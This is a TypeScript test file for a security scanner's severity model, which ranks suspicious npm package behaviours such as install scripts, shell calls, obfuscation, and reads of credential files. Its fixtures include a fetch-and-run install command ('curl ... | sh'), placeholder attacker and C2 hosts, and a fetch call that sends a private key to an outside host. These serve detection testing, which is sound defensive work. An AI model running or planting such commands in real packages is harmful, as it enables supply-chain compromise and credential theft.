import { installScriptFacts } from '../../src/checks/code/install-scripts.js';
import { assignSeverities, SEVERITY_RULES } from '../../src/pipeline/severity-model.js';
import type { Fact, FileEntry } from '../../src/model/types.js';

const fact = (key: string, extra: Partial<Fact> = {}): Fact => ({
  key,
  kind: key.split(':')[0] as Fact['kind'],
  severity: 'high',
  detail: `${key}.`,
  ...extra,
});
const severities = (facts: Fact[]) => Object.fromEntries(assignSeverities(facts).map((f) => [f.key, f.severity]));

test('one new capability in readable code is a medium notice, whatever its check said', () => {
  for (const key of ['shell:child_process.execSync', 'eval:Function', 'env:enumerate', 'network:module:https', 'obfuscation:base64-blob', 'fs-sensitive:.env', 'install-script:postinstall:node x.js']) {
    expect(severities([fact(key, { severity: 'critical' })])).toEqual({ [key]: 'medium' });
  }
});

test('kinds decided by their own evidence keep the check severity: hostile archives never weaken', () => {
  const kept = [
    fact('tarball-anomaly:path-traversal', { severity: 'critical' }),
    fact('integrity-mismatch:tarball', { severity: 'critical' }),
    fact('unpublished:not-found', { severity: 'critical' }),
    fact('vulnerability:GHSA-1', { severity: 'low' }),
    fact('binary:elf:x', { severity: 'high' }),
  ];
  expect(assignSeverities(kept)).toEqual(kept);
});

test('decoded payloads that run are critical; hooks on globals, credential stores and hidden module names are high', () => {
  expect(severities([fact('eval:module._compile:decoded')])).toEqual({ 'eval:module._compile:decoded': 'critical' });
  expect(severities([fact('network:hook:fetch')])).toEqual({ 'network:hook:fetch': 'high' });
  expect(severities([fact('fs-sensitive:~/.ssh')])).toEqual({ 'fs-sensitive:~/.ssh': 'high' });
  expect(severities([fact('obfuscation:hidden-require')])).toEqual({ 'obfuscation:hidden-require': 'high' });
  // A project file is not another program's credential store.
  expect(severities([fact('fs-sensitive:.env')])).toEqual({ 'fs-sensitive:.env': 'medium' });
});

test('obfuscation next to a hook is critical; next to running code it is high, and says why', () => {
  expect(severities([fact('obfuscation:hex-identifiers'), fact('network:hook:ethereum')])).toEqual({ 'obfuscation:hex-identifiers': 'high', 'network:hook:ethereum': 'critical' });
  const [obfuscated, shell] = assignSeverities([fact('obfuscation:escaped-strings'), fact('shell:child_process.exec')]);
  expect(obfuscated).toMatchObject({ severity: 'high', detail: expect.stringContaining('also runs programs') });
  expect(shell!.severity).toBe('high');
  expect(severities([fact('obfuscation:newly-minified'), fact('network:fetch')])).toEqual({ 'obfuscation:newly-minified': 'medium', 'network:fetch': 'medium' });
});

test('an encoded address, or obfuscation in the file that reaches the network, is high', () => {
  const hidden = fact('network:host:evil.example', { detail: 'x.js contains the address `https://evil.example/`, hidden in the source as base64, so...' });
  expect(severities([hidden])).toEqual({ 'network:host:evil.example': 'high' });
  const plain = fact('network:host:api.example', { detail: 'x.js contains the address `https://api.example/`.' });
  expect(severities([plain])).toEqual({ 'network:host:api.example': 'medium' });
  // Same file: raised; different files (a protobuf descriptor next to a gRPC client): a notice each.
  expect(severities([fact('obfuscation:base64-blob', { file: 'a.js' }), fact('network:module:http2', { file: 'a.js' })])).toEqual({ 'obfuscation:base64-blob': 'high', 'network:module:http2': 'high' });
  expect(severities([fact('obfuscation:base64-blob', { file: 'descriptor.js' }), fact('network:module:http2', { file: 'client.js' })])).toEqual({ 'obfuscation:base64-blob': 'medium', 'network:module:http2': 'medium' });
});

test('secrets plus network is high; credentials read with network, or secrets at install time, is critical', () => {
  expect(severities([fact('env:serialize'), fact('network:module:https')])).toEqual({ 'env:serialize': 'high', 'network:module:https': 'high' });
  expect(severities([fact('env:enumerate')])).toEqual({ 'env:enumerate': 'medium' });
  expect(severities([fact('fs-sensitive:~/.npmrc'), fact('network:host:c2.example')])).toEqual({ 'fs-sensitive:~/.npmrc': 'critical', 'network:host:c2.example': 'critical' });
  expect(severities([fact('env:secret-names', { installTime: true }), fact('network:module:https', { installTime: true })])).toEqual({ 'env:secret-names': 'critical', 'network:module:https': 'critical' });
});

test('install-time network or shell is high, for the script and the code it runs', () => {
  expect(severities([fact('install-script:postinstall:node setup.js'), fact('shell:child_process.spawn', { installTime: true })])).toEqual({
    'install-script:postinstall:node setup.js': 'high',
    'shell:child_process.spawn': 'high',
  });
  expect(severities([fact('install-script:preinstall:curl -s https://x.example/a | sh')])).toEqual({ 'install-script:preinstall:curl -s https://x.example/a | sh': 'high' });
  // Said once: not on the script itself, nor again where the check already said it.
  const [script, fetching, spawning] = assignSeverities([
    fact('install-script:postinstall:node setup.js', { detail: 'The `postinstall` script runs `node setup.js`.' }),
    fact('network:module:https', { installTime: true, detail: 'setup.js loads `https`, and it runs at install time.' }),
    fact('shell:child_process.spawn', { installTime: true, detail: 'setup.js starts programs.' }),
  ]);
  expect([script!.detail, fetching!.detail, spawning!.detail]).toEqual([
    'The `postinstall` script runs `node setup.js`.',
    'setup.js loads `https`, and it runs at install time.',
    'setup.js starts programs; it runs at install time.',
  ]);
  // The same capabilities at run time stay notices.
  expect(severities([fact('install-script:postinstall:node hi.js'), fact('shell:child_process.spawn')])).toEqual({ 'install-script:postinstall:node hi.js': 'medium', 'shell:child_process.spawn': 'medium' });
});

test('the install-script check still says what its files do in the words the model reads', () => {
  const file = (path: string, text: string): [string, FileEntry] => [path, { path, text, size: text.length, sha256: path, mode: 0o644, type: 'file' }];
  const files = new Map([file('package.json', '{"scripts":{"postinstall":"node a.js"}}'), file('a.js', '')]);
  const capabilities: Record<string, Fact[]> = {
    'a.js': [fact('network:module:https'), fact('shell:child_process.exec'), fact('env:serialize'), fact('fs-sensitive:~/.npmrc')],
  };
  const scriptOf = () => installScriptFacts({ scripts: { postinstall: 'node a.js' } }, files, 'registry', (path) => capabilities[path] ?? [])[0]!;
  // Old code that now runs at install time: its facts are not new, so the script's own text is the evidence.
  const harvesting = scriptOf();
  expect(severities([harvesting])).toEqual({ [harvesting.key]: 'critical' });
  capabilities['a.js'] = [fact('network:module:https')];
  expect(severities([scriptOf()])).toEqual({ [harvesting.key]: 'high' });
  capabilities['a.js'] = [fact('shell:child_process.exec')];
  expect(severities([scriptOf()])).toEqual({ [harvesting.key]: 'high' });
  capabilities['a.js'] = [];
  expect(severities([scriptOf()])).toEqual({ [harvesting.key]: 'medium' });
});

test('a new host where private keys or recovery phrases are handled is high; tokens sent to an auth server are not', () => {
  const key = fact('network:host:sync.example', { evidence: "fetch('https://sync.example/q', { headers: { k: privateKey } })" });
  expect(severities([key])).toEqual({ 'network:host:sync.example': 'high' });
  const token = fact('network:host:login.example', { evidence: "https.request({ hostname: 'login.example' }).end('refresh_token=' + refreshToken)" });
  expect(severities([token])).toEqual({ 'network:host:login.example': 'medium' });
});

test('a new publisher is high only when the same release newly does something high-risk', () => {
  const publisher = fact('maintainer-change:publisher:mallory', { severity: 'medium', detail: 'x@2.0.0 was published by `mallory`.' });
  const maintainers = fact('maintainer-change:maintainers', { severity: 'medium' });
  expect(severities([publisher])).toEqual({ [publisher.key]: 'medium' });
  expect(severities([publisher, fact('shell:child_process.exec'), fact('new-dependency:left-pad', { severity: 'low' })])[publisher.key]).toBe('medium');
  const [raised, , other] = assignSeverities([publisher, fact('eval:Function:decoded'), maintainers]);
  expect(raised).toMatchObject({ severity: 'high', detail: expect.stringContaining('newly does something risky') });
  expect(other).toEqual(maintainers);
});

test('every rule has a name, a rationale and raises to high or critical', () => {
  expect(new Set(SEVERITY_RULES.map((r) => r.name)).size).toBe(SEVERITY_RULES.length);
  for (const rule of SEVERITY_RULES) {
    expect(rule.name).toMatch(/^[a-z-]+$/);
    expect(rule.rationale).toMatch(/^[A-Z].*\.$/);
    expect(['high', 'critical']).toContain(rule.severity);
  }
});
